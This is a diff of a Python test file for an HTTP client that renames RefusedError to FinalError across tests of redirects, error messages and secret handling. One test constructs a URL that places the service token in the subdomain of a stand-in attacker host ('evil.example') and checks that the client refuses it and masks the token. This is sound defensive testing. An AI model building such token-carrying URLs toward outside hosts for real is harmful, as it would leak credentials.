@@ -10,7 +10,7 @@ import httpx
 import pytest
 from support.service import TOKEN, Answer, Script
 
-from reconcile.actual.errors import ApiError, BusyError, OutcomeUnknownError, RefusedError
+from reconcile.actual.errors import ApiError, BusyError, FinalError, OutcomeUnknownError
 from reconcile.actual.http import Http
 from reconcile.clock import Stop, StoppedError
 
@@ -203,7 +203,7 @@ class TestRedirects:
     def test_are_never_followed(self, status: int, location: str) -> None:
         script = Script([httpx.Response(status, headers={b"Location": location.encode()})])
 
-        with pytest.raises(RefusedError) as refused:
+        with pytest.raises(FinalError) as refused:
             script.run(lambda http: http.request("GET", "/backups/"))
 
         assert f": {status} " in str(refused.value)
@@ -220,7 +220,7 @@ class TestRedirects:
         ],
     )
     def test_other_answers_are_none(self, status: int, headers: dict[str, str], problem: str) -> None:
-        with pytest.raises(RefusedError, match=f"{problem}$") as refused:
+        with pytest.raises(FinalError, match=f"{problem}$") as refused:
             get(httpx.Response(status, headers=headers))
 
         assert refused.value.status == status
@@ -267,12 +267,12 @@ class TestSecrets:
         async def use(http: Http) -> None:
             http.link(await http.request("GET", "/backups/"), f"https://{TOKEN}.evil.example/")
 
-        with pytest.raises(RefusedError, match=r"https://\*\*\*\.evil\.example "):
+        with pytest.raises(FinalError, match=r"https://\*\*\*\.evil\.example "):
             script.run(use)
 
 
 def test_a_text_of_the_service_is_cut_in_a_message() -> None:
-    with pytest.raises(RefusedError) as refused:
+    with pytest.raises(FinalError) as refused:
         get(httpx.Response(400, json={"detail": "x" * 499 + TOKEN * 1000}))
 
     assert len(str(refused.value)) < 600
@@ -321,7 +321,7 @@ def test_what_decodes_to_too_much_is_refused_before_it_is_all_decoded() -> None:
 def test_advice_is_given_only_where_the_service_does_not_say_something_else(
     status: int, detail: str, advice: str | None
 ) -> None:
-    with pytest.raises(RefusedError) as refused:
+    with pytest.raises(FinalError) as refused:
         get(httpx.Response(status, json={"detail": detail} if detail else {}))
 
     (diagnostic,) = refused.value.diagnostics
